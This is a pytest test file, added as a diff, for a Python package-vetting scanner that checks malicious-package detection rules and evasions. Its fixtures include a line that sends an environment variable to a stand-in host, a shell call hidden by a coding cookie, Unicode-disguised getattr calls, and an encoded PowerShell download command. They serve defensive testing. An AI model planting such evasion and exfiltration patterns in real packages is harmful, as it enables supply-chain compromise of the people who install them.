@@ -1,0 +1,191 @@
+"""Behaviour classes from published rule sets (GuardDog) and code reached with no call
+(issue 16): each rule fires on its fixture, the attacker's first evasion is caught too, and
+the same calls where nothing runs them on their own stay below a hold."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from airlock.imports.packages.analysis import scan_python
+from airlock.imports.packages.disguise import cookie_codec, disguised_names
+from airlock.imports.packages.rules import PackageFinding, Severity
+from airlock.imports.packages.vet import vet
+from scripts.make_test_packages import BENIGN, MALICIOUS, sdist, utf7_all, wheel
+
+LEAK = "urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])"
+
+
+def _worst(findings: list[PackageFinding], rule: str | None = None) -> Severity:
+    return max(
+        (f.severity for f in findings if rule is None or f.rule == rule), default=Severity.LOW
+    )
+
+
+@pytest.mark.parametrize(
+    ("key", "verdict"),
+    [
+        ("exfiltration:atexit-hook", Outcome.DENY),
+        ("exfiltration:decorator-runs-function", Outcome.DENY),
+        ("exfiltration:init-subclass", Outcome.DENY),
+        ("exfiltration:metaclass", Outcome.DENY),
+        ("obfuscated-exec:decoded-module-name", Outcome.DENY),
+        ("obfuscated-exec:steganography", Outcome.DENY),
+        ("shellcode-loader", Outcome.DENY),
+        ("silent-process", Outcome.DENY),
+        ("disguised-identifier", Outcome.DENY),
+        ("coding-trick:utf-7", Outcome.DENY),
+        ("exfiltration:in-tree-build-backend", Outcome.DENY),
+        ("exfiltration:setup-cfg-cmdclass", Outcome.DENY),
+        ("bidi-control", Outcome.HOLD),
+        ("command-shadowing", Outcome.HOLD),
+        ("startup-module", Outcome.HOLD),
+        ("script-dropper", Outcome.HOLD),
+    ],
+)
+def test_each_new_class_reaches_its_verdict(key: str, verdict: Outcome) -> None:
+    filename, data = MALICIOUS[key]
+    report = vet(filename, data)
+    assert report.verdict is verdict, report.to_json()
+    rule = key.split(":", maxsplit=1)[0]
+    assert _worst(list(report.findings), rule) >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "registration",
+    [
+        "atexit.register(leak)",
+        "sys.settrace(lambda frame, event, arg: leak())",
+        "sys.setprofile(leak)",
+        "signal.signal(signal.SIGTERM, lambda signum, frame: leak())",
+    ],
+)
+def test_functions_registered_to_run_later_on_their_own_run_now(registration: str) -> None:
+    source = f"import atexit, os, signal, sys, urllib.request\n\n\ndef leak(*a):\n    {LEAK}\n\n\n"
+    assert _worst(scan_python("m.py", source)) < Severity.HIGH  # never called: a later call
+    found = scan_python("m.py", source + registration + "\n")
+    assert _worst(found, "exfiltration") is Severity.CRITICAL
+
+
+def test_class_decorators_and_inherited_subclass_hooks_run_at_definition() -> None:
+    decorated = (
+        f"import os, urllib.request\n\n\ndef mark(cls):\n    {LEAK}\n    return cls\n\n\n"
+        "@mark\nclass Plugin:\n    pass\n"
+    )
+    assert _worst(scan_python("m.py", decorated), "exfiltration") is Severity.CRITICAL
+    # A hook defined on a base and never subclassed does not run.
+    base_only = (
+        f"import os, urllib.request\n\n\nclass Base:\n    def __init_subclass__(cls):\n"
+        f"        {LEAK}\n"
+    )
+    assert _worst(scan_python("m.py", base_only)) < Severity.HIGH
+
+
+def test_plugin_loaders_importing_a_name_they_are_given_are_not_judged() -> None:
+    source = "import importlib\n\n\ndef load(name):\n    return importlib.import_module(name)\n"
+    assert _worst(scan_python("m.py", source)) < Severity.MEDIUM
+    hidden = "import codecs\n\n\ndef load(n):\n    return __import__(codecs.decode(n, 'rot13'))\n"
+    assert _worst(scan_python("m.py", hidden)) < Severity.HIGH  # a rot13 of a variable: unknown
+
+
+def test_one_memory_call_is_not_a_loader_but_a_loader_through_getattr_is() -> None:
+    one = "import ctypes\n\n\ndef grow(n):\n    return ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 4)\n"
+    assert _worst(scan_python("m.py", one)) < Severity.HIGH
+    names = "".join(
+        f"    getattr(k, {n!r})()\n" for n in ("VirtualAlloc", "WriteProcessMemory", "QueueUserAPC")
+    )
+    hidden = f"import ctypes\n\n\ndef run():\n    k = ctypes.windll.kernel32\n{names}"
+    assert _worst(scan_python("m.py", hidden), "shellcode-loader") is Severity.CRITICAL
+
+
+def test_hidden_window_processes_deny_early_and_are_only_noted_later() -> None:
+    later = (
+        "import subprocess\n\n\ndef start():\n"
+        "    subprocess.Popen(['tool'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
+    )
+    assert _worst(scan_python("m.py", later)) is Severity.MEDIUM
+    early = "import subprocess\nsubprocess.Popen(['agent'], creationflags=0x00000008)\n"
+    assert _worst(scan_python("m.py", early), "silent-process") is Severity.CRITICAL
+
+
+def _math(word: str) -> str:
+    """``word`` in mathematical sans-serif bold letters (NFKC folds them back to ASCII)."""
+    return "".join(chr(0x1D5EE + ord(c) - ord("a")) if c.islower() else c for c in word)
+
+
+def test_disguised_identifiers_are_read_as_python_reads_them() -> None:
+    # Disguising only the module leaves the sink visible: it still holds, and the flow pass
+    # reads ``getattr`` with a built name through the folded text.
+    source = f"import os\n{_math('getattr')}({_math('os')}, 'sys' + 'tem')('id')\n"
+    found = scan_python("m.py", source)
+    assert _worst(found, "disguised-identifier") is Severity.CRITICAL
+    assert _worst(found, "hidden-process") is Severity.CRITICAL
+    plain = f"{_math('total')} = 1\n"
+    assert _worst(scan_python("m.py", plain), "disguised-identifier") is Severity.HIGH
+    text = '"""\u6570\u636e \uff21\uff22\uff23"""\nx = "\uff46\uff55\uff4c\uff4c"  # \uff43\n'
+    assert disguised_names(text) == {}
+    assert not scan_python("m.py", text)
+
+
+def test_coding_cookies_that_rewrite_the_file_are_decoded_and_read() -> None:
+    escaped = "# -*- coding: unicode_escape -*-\nx = 1\\nimport os\\nos.system('id')\n"
+    found = scan_python("setup.py", escaped, install_time=True)
+    assert _worst(found, "coding-trick") is Severity.HIGH
+    assert _worst(found, "process-call") is Severity.HIGH  # the decoded line, run on install
+    assert _worst(scan_python("m.py", "# coding: xcustom\nx = 1\n"), "coding-trick") is Severity.HIGH
+    for benign in ("latin-1", "utf-8-unix", "cp1252", "iso-8859-15", "euc-jp"):
+        assert not scan_python("m.py", f"# -*- coding: {benign} -*-\nx = 1\n")
+    assert cookie_codec(b"#!/usr/bin/env python\n# vim: set fileencoding=utf-7 :\n") == "utf_7"
+    assert utf7_all("x").startswith("+")
+
+
+def test_install_hooks_in_configuration_are_read_as_install_time() -> None:
+    command = (
+        f"import os, urllib.request\n\n\nclass Install:\n    def run(self):\n        {LEAK}\n"
+    )
+    data = sdist(
+        "tomlcmd",
+        "0.1",
+        {
+            "pyproject.toml": "[tool.setuptools.cmdclass]\ninstall = 'tomlcmd.cmd.Install'\n",
+            "tomlcmd/__init__.py": "",
+            "tomlcmd/cmd.py": command,
+        },
+    )
+    assert vet("tomlcmd-0.1.tar.gz", data).verdict is Outcome.DENY
+    # The same module with no configuration naming it runs only when called.
+    alone = sdist("tomlcmd", "0.1", {"tomlcmd/__init__.py": "", "tomlcmd/cmd.py": command})
+    assert vet("tomlcmd-0.1.tar.gz", alone).verdict is Outcome.ALLOW
+
+
+def test_shadowed_commands_in_pyproject_and_own_names_are_told_apart() -> None:
+    scripts = "[project]\nname = 'x'\n[project.scripts]\ngit = 'x:main'\n"
+    data = sdist("gitlike", "0.1", {"pyproject.toml": scripts, "gitlike/__init__.py": ""})
+    assert "command-shadowing" in {f.rule for f in vet("gitlike-0.1.tar.gz", data).findings}
+    own = "[console_scripts]\npip = pip._internal.cli.main:main\npip3 = pip:main\n"
+    wheel_data = wheel(
+        "pip", "25.0", {"pip/__init__.py": "", "pip-25.0.dist-info/entry_points.txt": own}
+    )
+    report = vet("pip-25.0-py3-none-any.whl", wheel_data)
+    assert "command-shadowing" not in {f.rule for f in report.findings}
+
+
+def test_batch_files_with_encoded_powershell_hold() -> None:
+    encoded = base64.b64encode("iwr http://127.0.0.1/p".encode("utf-16-le")).decode()
+    data = wheel(
+        "winkit",
+        "0.1",
+        {"winkit/__init__.py": "", "winkit/run.bat": f"powershell -EncodedCommand {encoded}\r\n"},
+    )
+    report = vet("winkit-0.1-py3-none-any.whl", data)
+    assert report.verdict is Outcome.HOLD
+    assert "script-dropper" in {f.rule for f in report.findings}
+
+
+@pytest.mark.parametrize("filename", ["hooked-1.0-py3-none-any.whl", "selfbuild-1.0.tar.gz"])
+def test_ordinary_hooks_stay_allowed(filename: str) -> None:
+    report = vet(filename, BENIGN[filename])
+    assert report.verdict is Outcome.ALLOW, report.to_json()
+    assert _worst(list(report.findings)) < Severity.HIGH
